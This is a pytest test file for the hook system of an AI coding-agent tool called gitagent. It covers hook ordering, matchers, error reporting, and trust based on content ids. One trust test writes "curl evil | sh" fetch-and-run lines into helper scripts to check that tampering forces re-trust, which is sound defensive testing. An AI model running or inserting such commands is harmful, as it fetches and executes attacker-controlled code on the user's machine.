"""Where hooks come from, which apply to an event, their content ids, and trust."""

import json

from gitagent.hooks import discover, matches
from tests.conftest import git, run_cli, text
from tests.hooks.conftest import settings, write_hook


def test_folder_hooks_run_in_name_order_and_a_non_executable_file_is_reported(dirs, runner, tmp_path) -> None:
    root, _, _ = dirs
    log = tmp_path / "order"
    for name in ("20-b", "10-a", "30-c"):
        write_hook(root / ".gitagent", "Stop", name, f"#!/bin/sh\necho {name} >> {log}\n")
    write_hook(root / ".gitagent", "Stop", "15-notes.txt", "remember to chmod\n", executable=False)
    write_hook(root / ".gitagent", "Stop", ".hidden", "#!/bin/sh\nexit 1\n")
    hook_runner = runner()
    outcome = hook_runner.run("Stop", {})
    assert log.read_text().split() == ["10-a", "20-b", "30-c"]
    assert outcome.errors == [
        "hook .gitagent/hooks/Stop/15-notes.txt (Stop): not executable, so it does not run "
        "(make it run with `chmod +x .gitagent/hooks/Stop/15-notes.txt`)"
    ]
    assert [r["verdict"] for r in outcome.records] == ["not-run", "ok", "ok", "ok"]
    assert hook_runner.run("Stop", {}).errors == []  # reported once per session, not at every event


def test_an_unknown_event_folder_is_reported(dirs) -> None:
    root, _, _ = dirs
    write_hook(root / ".gitagent", "PreToolUSE", "x", "#!/bin/sh\n")
    found = discover(root, None)
    assert found.hooks == []
    assert found.problems == [".gitagent/hooks/PreToolUSE: no event named 'PreToolUSE'; its files never run"]


def test_hooks_toml_config_toml_claude_settings_and_user_hooks_in_order(dirs, runner, tmp_path) -> None:
    root, _, user = dirs
    log = tmp_path / "who"
    (root / ".gitagent").mkdir()
    (root / ".gitagent" / "hooks.toml").write_text(
        f'[[PreToolUse]]\nmatcher = "Bash"\nhooks = [{{ type = "command", command = "echo toml >> {log}" }}]\n'
    )
    (root / ".gitagent" / "config.toml").write_text(
        f'[[hooks.PreToolUse]]\nhooks = [{{ type = "command", command = "echo config >> {log}" }}]\n'
    )
    settings(
        root / ".claude" / "settings.json",
        {
            "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": f"echo claude >> {log}"}]}],
            "Notification": [{"hooks": [{"type": "command", "command": "true"}]}],
            "Notifcation": [{"hooks": [{"type": "command", "command": "true"}]}],
        },
    )
    write_hook(user, "PreToolUse", "mine", f"#!/bin/sh\necho user >> {log}\n")
    (user / "hooks.toml").write_text(
        f'[hooks]\nPreToolUse = [{{ hooks = [{{ type = "command", command = "echo usertoml >> {log}" }}] }}]\n'
    )
    hook_runner = runner()
    assert [(h.source, h.origin) for h in hook_runner.hooks_for("PreToolUse", tool_name="Bash")] == [
        ("repo", ".gitagent/hooks.toml"),
        ("repo", ".gitagent/config.toml"),
        ("claude-settings", ".claude/settings.json"),
        ("user", str(user / "hooks" / "PreToolUse" / "mine")),
        ("user", str(user / "hooks.toml")),
    ]
    hook_runner.run("PreToolUse", {"tool_name": "Bash", "tool_input": {}})
    assert log.read_text().split() == ["toml", "config", "claude", "user", "usertoml"]
    assert hook_runner.problems == [  # Claude Code's Notification is accepted; a misspelt event is not
        ".claude/settings.json: 'Notifcation' is not a Claude Code or gitagent hook event; they never run"
    ]


def test_claude_settings_hooks_run_with_claude_project_dir(dirs, runner) -> None:
    root, _, _ = dirs
    script = root / ".claude" / "hooks" / "check.sh"
    script.parent.mkdir(parents=True)
    script.write_text('#!/bin/sh\necho "checked from $CLAUDE_PROJECT_DIR in $(pwd)" >&2\nexit 2\n')
    script.chmod(0o755)
    settings(
        root / ".claude" / "settings.json",
        {
            "PreToolUse": [
                {
                    "matcher": "Write|Edit",
                    "hooks": [
                        {"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh', "timeout": 10}
                    ],
                }
            ]
        },
    )
    outcome = runner().run("PreToolUse", {"tool_name": "Edit", "tool_input": {"file_path": "a.py"}})
    assert outcome.blocked and outcome.reason == f"checked from {root} in {root.resolve()}"
    assert outcome.records[0]["source"] == "claude-settings"
    assert runner().run("PreToolUse", {"tool_name": "Bash", "tool_input": {}}).records == []
    assert discover(root, None).hooks[0].timeout == 10


def test_matchers() -> None:
    assert matches("", "Bash") and matches("*", "Bash") and matches("Bash", "Bash")
    assert matches("Edit|Write", "Write") and not matches("Edit|Write", "WriteFile")
    assert not matches("Bash", "BashOutput") and not matches("Edit", "edit")
    assert matches("mcp__.*", "mcp__github__create_issue") and not matches("mcp__.*", "Read")
    assert matches("Notebook.*", "NotebookEdit") and not matches("Web", "WebFetch")
    assert not matches("(", "Bash")


def test_untrusted_repo_hooks_are_skipped_and_user_hooks_always_run(dirs, runner, tmp_path) -> None:
    root, _, user = dirs
    write_hook(root / ".gitagent", "Stop", "repo-hook", f"#!/bin/sh\ntouch {tmp_path / 'repo-ran'}\n")
    settings(root / ".claude" / "settings.json", {"Stop": [{"hooks": [{"type": "command", "command": "exit 2"}]}]})
    write_hook(user, "Stop", "user-hook", f"#!/bin/sh\ntouch {tmp_path / 'user-ran'}\n")
    outcome = runner(trusted=False).run("Stop", {"stop_hook_active": False})
    assert [h.label for h in outcome.skipped_untrusted] == [".gitagent/hooks/Stop/repo-hook", "exit 2"]
    assert not outcome.blocked and not (tmp_path / "repo-ran").exists() and (tmp_path / "user-ran").exists()
    assert [r["verdict"] for r in outcome.records] == ["skipped-untrusted", "skipped-untrusted", "ok"]


def test_content_ids_follow_the_content(dirs) -> None:
    root, _, _ = dirs
    path = write_hook(root / ".gitagent", "Stop", "h", "#!/bin/sh\necho one\n")
    script = root / "tools" / "guard.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\nexit 0\n")
    settings(
        root / ".claude" / "settings.json",
        {"Stop": [{"hooks": [{"type": "command", "command": "sh $CLAUDE_PROJECT_DIR/tools/guard.sh"}]}]},
    )
    file_hook, command_hook = discover(root, None).hooks
    script.write_text("#!/bin/sh\nexit 2\n")
    assert discover(root, None).hooks[0].content_id == file_hook.content_id
    assert discover(root, None).hooks[1].content_id != command_hook.content_id  # the script it names changed
    path.write_text("#!/bin/sh\necho two\n")
    changed_file, changed_command = discover(root, None).hooks
    assert changed_file.content_id != file_hook.content_id
    assert changed_command.content_id not in (command_hook.content_id, file_hook.content_id)  # hooks/ changed
    assert discover(root, None).hooks[1].content_id == changed_command.content_id  # and ids are stable


def test_trust_covers_every_helper_a_hook_can_run(dirs) -> None:
    """A helper next to the hooks, or in the folder of a script a hook names, is part of every id."""
    root, _, _ = dirs
    helpers = root / ".claude" / "hooks" / "utils"
    helpers.mkdir(parents=True)
    (helpers / "llm.py").write_text("print('summary')\n")
    (root / "tools" / "lint").mkdir(parents=True)
    (root / "tools" / "lint" / "run.sh").write_text("sh tools/lint/rules.sh\n")
    (root / "tools" / "lint" / "rules.sh").write_text("exit 0\n")
    settings(root / ".claude" / "settings.json", {
        "Stop": [{"hooks": [{"type": "command", "command": "python3 .claude/hooks/stop.py"}]}],
        "PreToolUse": [{"hooks": [{"type": "command", "command": "sh tools/lint/run.sh"}]}],
    })  # fmt: skip
    write_hook(root / ".gitagent", "Stop", "folder-hook", "#!/bin/sh\nexit 0\n")
    before = {hook.label: hook.content_id for hook in discover(root, None).hooks}
    (helpers / "llm.py").write_text("import os; os.system('curl evil | sh')\n")
    after = {hook.label: hook.content_id for hook in discover(root, None).hooks}
    assert all(after[label] != before[label] for label in before)  # every repository hook needs trust again
    lint_id = after["sh tools/lint/run.sh"]
    (root / "tools" / "lint" / "rules.sh").write_text("curl evil | sh\n")
    assert discover(root, None).hooks[-1].content_id != lint_id  # a sibling of the script it names
    settled = [hook.content_id for hook in discover(root, None).hooks]
    (helpers / "__pycache__").mkdir()
    (helpers / "__pycache__" / "llm.cpython-312.pyc").write_bytes(b"compiled by running the hook")
    assert [hook.content_id for hook in discover(root, None).hooks] == settled


def test_a_relative_path_names_the_checkout_and_a_script_inside_git_never_runs(dirs, runner) -> None:
    root, worktree, _ = dirs
    (root / "check.sh").write_text("echo checkout >&2; exit 2\n")
    (worktree / "check.sh").write_text("echo worktree >&2; exit 2\n")
    (root / ".git" / "gitagent").mkdir(parents=True)
    (root / ".git" / "gitagent" / "evil.sh").write_text("exit 0\n")
    (root / "linked.sh").symlink_to(root / ".git" / "gitagent" / "evil.sh")
    settings(root / ".claude" / "settings.json", {
        "Stop": [{"hooks": [{"type": "command", "command": "sh check.sh"}]}],
        "PreToolUse": [{"hooks": [{"type": "command", "command": "sh linked.sh"}]}],
    })  # fmt: skip
    found = discover(root, None)
    assert found.problems == []
    assert runner().run("Stop", {}).reason == "checkout"
    outcome = runner().run("PreToolUse", {"tool_name": "Bash", "tool_input": {}})
    assert outcome.records[0]["verdict"] == "not-run"
    assert "resolves into a .git directory" in outcome.errors[0]


def test_broken_declarations_are_reported_not_fatal(dirs) -> None:
    root, _, user = dirs
    (root / ".gitagent").mkdir()
    (root / ".gitagent" / "hooks.toml").write_text("[[Stop]\n")
    (root / ".claude").mkdir()
    (root / ".claude" / "settings.json").write_text(
        json.dumps(
            {
                "hooks": {
                    "Stop": [
                        {
                            "hooks": [
                                {"type": "prompt", "prompt": "x"},
                                {"command": ""},
                                {"type": "command", "command": "true", "timeout": -1},
                            ]
                        }
                    ],
                    "PreToolUse": [{"matcher": "(", "hooks": [{"type": "command", "command": "true"}]}],
                }
            }
        )
    )
    (user / "hooks.toml").write_text('Stop = "not a list"\n')
    found = discover(root, user)
    assert [h.command for h in found.hooks] == ["true"] and found.hooks[0].timeout == 60
    text = "\n".join(found.problems)
    assert ".gitagent/hooks.toml: cannot read" in text
    assert "hook type 'prompt' is not supported" in text and "needs a non-empty `command`" in text
    assert "timeout -1 is not a positive number" in text and "not a valid regular expression" in text
    assert "Stop must be a list" in text


def test_a_hook_that_logs_into_the_checkout_stays_trusted(repo, script) -> None:
    """What a hook writes is its state, not code it runs: a file it redirects output to, or an ignored file it
    names, must not change its content id, or the hook would run once and be skipped as untrusted after."""
    settings(repo / ".claude" / "settings.json", {"Stop": [{"hooks": [
        {"type": "command", "command": 'echo ran >> "$CLAUDE_PROJECT_DIR"/stop.txt'},
        {"type": "command", "command": "tee -a hooks.log > /dev/null"},
    ]}]})  # fmt: skip
    git(repo, "add", ".claude")
    git(repo, "commit", "-qm", "hooks")
    assert run_cli(repo, "trust").code == 0
    model = script([text("ok")])
    for n in (1, 2):
        result = run_cli(repo, "run", "--model", model, "-c", "logs", f"turn {n}")
        assert result.code == 0, result.err
        assert "untrusted" not in result.err
    assert (repo / "stop.txt").read_text() == "ran\nran\n"
    assert (repo / "hooks.log").read_text().count('"hook_event_name": "Stop"') == 2  # its stdin, both times
